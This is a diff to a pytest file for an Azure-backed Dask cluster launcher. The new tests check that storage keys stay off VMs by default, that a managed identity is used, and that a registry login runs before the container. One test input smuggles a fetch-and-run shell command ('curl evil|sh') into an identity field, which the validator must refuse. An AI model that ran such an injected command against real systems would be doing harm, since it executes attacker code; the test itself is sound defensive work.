@@ -7,8 +7,10 @@ its VM classes, the cloud-init and TLS are dask-cloudprovider's and ours.
 import asyncio
 import base64
 import json
-from collections import namedtuple
+import re
 import time
+from collections import namedtuple
+from pathlib import Path
 
 import dask.config
 import pytest
@@ -18,8 +20,15 @@ from cluster import azure
 from cluster.clusters import open_cluster
 
 SECRET = "c2VjcmV0LWtleQ+/=="
+IDENTITY = ("/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/fleet-rg/providers/"
+            "Microsoft.ManagedIdentity/userAssignedIdentities/fleet-id")
 REQUIRED = {"subscription_id": "00000000-0000-0000-0000-000000000000", "location": "westeurope",
-            "resource_group": "fleet-rg", "vnet": "fleet-vnet", "security_group": "fleet-nsg"}
+            "resource_group": "fleet-rg", "vnet": "fleet-vnet", "security_group": "fleet-nsg",
+            "identity": IDENTITY}
+# What a flow's environment may hold: the defaults must put none of it but the account name on a VM.
+FLOW_ENV = {"AZURE_STORAGE_ACCOUNT_NAME": "fleet", "AZURE_STORAGE_ACCOUNT_KEY": SECRET,
+            "AZURE_STORAGE_CONNECTION_STRING": f"AccountName=fleet;AccountKey={SECRET}",
+            "AZURE_CLIENT_SECRET": SECRET}
 
 
 def settings(**overrides):
@@ -37,6 +46,13 @@ def settings(**overrides):
         ({"disk_size": 2048}, "disk-size 2048 GiB is impossible"),
         ({"bootstrap": False}, "bootstrap false needs a VM image with Docker"),
         ({"tags": {"team/owner": "x"}}, "not a valid Azure tag"),
+        ({"identity": None}, "needs identity"),
+        ({"identity": "fleet-id"}, "not a user-assigned identity's resource id"),
+        ({"identity": IDENTITY + ";curl evil|sh"}, "not a user-assigned identity's resource id"),
+        ({"extra_vm_options": {"identity": {"type": "SystemAssigned"}}}, "remove it from extra-vm-options"),
+        ({"forward_env": ["AZURE_STORAGE_ACCOUNT_KEY"]}, "AZURE_STORAGE_ACCOUNT_KEY: root on any VM.*allow-keys"),
+        ({"forward_env": ["AZURE_STORAGE_CONNECTION_STRING"]}, "lists AZURE_STORAGE_CONNECTION_STRING"),
+        ({"docker_image": "daskdev/dask:2025.9.0"}, "names no private registry.*registry-login"),
     ],
 )
 def test_impossible_azure_settings_are_refused_before_anything_starts(overrides, message, child_pids):
@@ -51,6 +67,13 @@ def test_the_default_image_is_this_project_at_its_version():
     assert azure.docker_image(settings()) == "fleetscore.azurecr.io/fleetscore:0.1.0"
     assert azure.docker_image(settings(docker_image="r.io/f@sha256:" + "0" * 64)).endswith("0" * 64)
     azure.check(settings(docker_image="r.io/f@sha256:" + "0" * 64))
+
+
+def test_keys_and_public_images_are_possible_when_asked_for():
+    azure.check(settings(forward_env=["AZURE_STORAGE_ACCOUNT_KEY"], allow_keys_on_vms=True))
+    azure.check(settings(docker_image="daskdev/dask:2025.9.0", registry_login=False))
+    keywords = azure.cluster_keywords(settings(registry_login=False), {})
+    assert keywords["extra_bootstrap"] == []
 
 
 def test_only_set_variables_are_forwarded_and_unquotable_ones_are_refused_by_name():
@@ -78,20 +101,40 @@ def inherited_config(command: str) -> dict:
     return dask.config.deserialize(encoded)
 
 
+def env_names(docker_run: str) -> list[str]:
+    """The names of the variables a ``docker run`` line sets (``-e NAME="value"``)."""
+    return re.findall(r' -e (\w+)=', docker_run)
+
+
+def assert_registry_login_before_the_container(init: dict) -> None:
+    """The cloud-init logs Docker in to the registry with the identity, then runs the container."""
+    commands = [c for c in init["runcmd"] if isinstance(c, str)]
+    [login] = [i for i, c in enumerate(commands) if "| python3 - " in c]
+    assert login < commands.index(docker_line(init))
+    encoded, args = commands[login].removeprefix("echo ").split(" | base64 -d | python3 - ")
+    assert base64.b64decode(encoded) == Path(azure.__file__).with_name("acr_login.py").read_bytes()
+    assert args.split() == ["fleetscore.azurecr.io", IDENTITY]
+
+
 Started = namedtuple("Started", "cluster worker_init logged seconds")
 
 
 @pytest.fixture
-def offline_start(fake_azure, caplog, capsys):
-    """Start an AzureRunCluster inside a running loop against the fake; return what it did."""
+def offline_start(fake_azure, caplog, capsys, request):
+    """Start an AzureRunCluster inside a running loop against the fake; return what it did.
+
+    Settings are the defaults, or these with the overrides given as the fixture's ``param``.
+    """
     caplog.set_level("DEBUG")
+    chosen = settings(**getattr(request, "param", {}))
+    azure.check(chosen)
 
     async def start():
         with azure.restored_dask_config():
             cluster = azure.AzureRunCluster(
                 run_tags=azure.run_tags({"app": "fleetscore"}, "run-123"), start_timeout=3,
                 asynchronous=True,
-                **azure.cluster_keywords(settings(), {"AZURE_STORAGE_ACCOUNT_KEY": SECRET}))
+                **azure.cluster_keywords(chosen, azure.vm_env(chosen, FLOW_ENV)))
             cluster.compute_client = cluster.network_client = fake_azure  # the network boundary
             started = time.monotonic()
             with pytest.raises(TimeoutError, match="scheduler did not come up within 3s"):
@@ -105,13 +148,16 @@ def offline_start(fake_azure, caplog, capsys):
     return Started(cluster, worker_init, caplog.text + out.out + out.err, seconds)
 
 
-def test_the_scheduler_vm_runs_our_image_with_tls_and_the_credentials(offline_start, fake_azure):
+def test_the_scheduler_vm_runs_our_image_with_tls_and_its_identity_and_no_key(offline_start, fake_azure):
     cluster = offline_start.cluster
     [(_, vm_name, vm)] = [c for c in fake_azure.created if c[0] == "virtual_machines"]
     init = cloud_init(vm)
     line = docker_line(init)
     assert " fleetscore.azurecr.io/fleetscore:0.1.0 " in line and ":latest" not in line
-    assert f'-e AZURE_STORAGE_ACCOUNT_KEY="{SECRET}"' in line
+    assert env_names(line) == ["AZURE_STORAGE_ACCOUNT_NAME"] and '-e AZURE_STORAGE_ACCOUNT_NAME="fleet"' in line
+    assert SECRET not in json.dumps(vm) and SECRET not in json.dumps(init)
+    assert vm["identity"] == {"type": "UserAssigned", "user_assigned_identities": {IDENTITY: {}}}
+    assert_registry_login_before_the_container(init)
     assert "distributed.cli.dask_scheduler" in line
     tls = inherited_config(line)["distributed"]["comm"]
     assert tls["require-encryption"] is True
@@ -123,10 +169,14 @@ def test_the_scheduler_vm_runs_our_image_with_tls_and_the_credentials(offline_st
     assert vm["storage_profile"]["os_disk"]["disk_size_gb"] == 30
 
 
-def test_a_worker_vm_joins_over_tls_with_our_worker_options(offline_start):
-    line = docker_line(yaml.safe_load(offline_start.worker_init))
+def test_a_worker_vm_joins_over_tls_with_our_worker_options_and_no_key(offline_start):
+    init = yaml.safe_load(offline_start.worker_init)
+    line = docker_line(init)
     assert " fleetscore.azurecr.io/fleetscore:0.1.0 " in line
-    assert f'-e AZURE_STORAGE_ACCOUNT_KEY="{SECRET}"' in line
+    assert env_names(line) == ["AZURE_STORAGE_ACCOUNT_NAME"] and SECRET not in offline_start.worker_init
+    assert offline_start.cluster.worker_options["extra_vm_options"]["identity"]["user_assigned_identities"] == {
+        IDENTITY: {}}
+    assert_registry_login_before_the_container(init)
     spec = json.loads(line.split("--spec '", 1)[1].rsplit("'", 1)[0])
     assert spec["cls"] == "dask.distributed.Nanny"
     assert spec["opts"]["nthreads"] == 2 and spec["opts"]["memory_limit"] == "7GiB"
@@ -150,8 +200,11 @@ def test_a_scheduler_vm_that_never_answers_is_deleted_with_its_disk_and_nic(offl
     assert all(fake_azure.resources[k] == {} for k in ("virtual_machines", "disks", "network_interfaces"))
 
 
-def test_credentials_never_reach_logs_or_repr_and_global_config_is_restored(offline_start):
+@pytest.mark.parametrize("offline_start", [{"forward_env": ["AZURE_STORAGE_ACCOUNT_KEY"], "allow_keys_on_vms": True}],
+                         indirect=True)
+def test_keys_allowed_on_vms_are_forwarded_but_never_logged_and_global_config_is_restored(offline_start):
     cluster, logged = offline_start.cluster, offline_start.logged
+    assert f'-e AZURE_STORAGE_ACCOUNT_KEY="{SECRET}"' in offline_start.worker_init  # forwarded as asked
     assert "Creating VM" in logged  # dask-cloudprovider's progress was captured
     assert SECRET not in logged
     assert SECRET not in repr(cluster) and SECRET not in str(cluster)
